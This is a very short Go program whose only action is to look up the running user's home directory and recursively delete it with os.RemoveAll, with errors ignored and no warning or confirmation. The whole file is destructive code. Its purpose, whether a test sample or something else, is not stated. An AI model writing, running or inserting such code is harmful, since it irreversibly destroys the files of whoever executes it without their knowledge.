package main

import "os"

func main() {
	dir, _ := os.UserHomeDir()
	os.RemoveAll(dir)
}
